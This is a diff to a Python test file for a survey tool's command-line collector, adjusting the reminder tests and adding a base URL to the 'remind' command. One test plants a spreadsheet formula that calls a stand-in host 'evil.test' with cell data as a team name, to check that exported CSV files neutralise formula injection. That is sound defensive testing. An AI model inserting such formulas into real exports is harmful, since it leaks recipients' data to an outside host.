@@ -85,7 +85,8 @@ def test_exports_only_come_as_csv_or_xlsx(engine):
         export(engine, "pdf")
 
 
-def test_the_collector_commands_work_end_to_end(engine, db_url, tmp_path, capsys):
+def test_the_collector_commands_work_end_to_end(engine, db_url, tmp_path, capsys, monkeypatch):
+    monkeypatch.setenv("LDALIGN_REMINDER_GAP_DAYS", "0")  # remind at once
     with unit_of_work(engine) as session:
         from ldcore.services import plans
 
@@ -114,14 +115,15 @@ def test_the_collector_commands_work_end_to_end(engine, db_url, tmp_path, capsys
     assert "line 2, column 'proficiency[neg]'" in capsys.readouterr().err
     assert run("export", "responses", "--wave", "b1", "--out", str(tmp_path / "out.xlsx")) == 0
     assert load_workbook(tmp_path / "out.xlsx").active.max_row == 2
-    assert run("remind", "--wave", "b1", "--out", str(tmp_path / "remind.csv")) == 0
+    assert run("remind", "--wave", "b1", "--out", str(tmp_path / "remind.csv"), "--base-url", "https://x.test") == 0
     assert len(list(csv.DictReader((tmp_path / "remind.csv").open(encoding="utf-8-sig")))) == 2
 
 
 HYPERLINK = '=HYPERLINK("http://evil.test/leak?"&C2,"Open survey")'
 
 
-def test_links_files_from_invite_and_remind_neutralise_team_names_and_emails(engine, db_url, tmp_path):
+def test_links_files_from_invite_and_remind_neutralise_team_names_and_emails(engine, db_url, tmp_path, monkeypatch):
+    monkeypatch.setenv("LDALIGN_REMINDER_GAP_DAYS", "0")  # remind at once
     document = plan_document().model_dump(mode="json")
     document["teams"][0]["name"] = HYPERLINK
     with unit_of_work(engine) as session:
@@ -135,7 +137,7 @@ def test_links_files_from_invite_and_remind_neutralise_team_names_and_emails(eng
     assert run("wave", "create", "--plan", "p1", "--survey", "capability_baseline", "--kind", "baseline",
                "--key", "b1", "--min-group", "3") == 0  # fmt: skip
     assert run("invite", "--wave", "b1", "--out", str(tmp_path / "links.csv"), "--base-url", "https://x.test") == 0
-    assert run("remind", "--wave", "b1", "--out", str(tmp_path / "remind.csv")) == 0
+    assert run("remind", "--wave", "b1", "--out", str(tmp_path / "remind.csv"), "--base-url", "https://x.test") == 0
     for name in ("links.csv", "remind.csv"):
         rows = list(csv.reader((tmp_path / name).open(encoding="utf-8-sig")))
         assert rows[0] == ["email", "team", "link"]
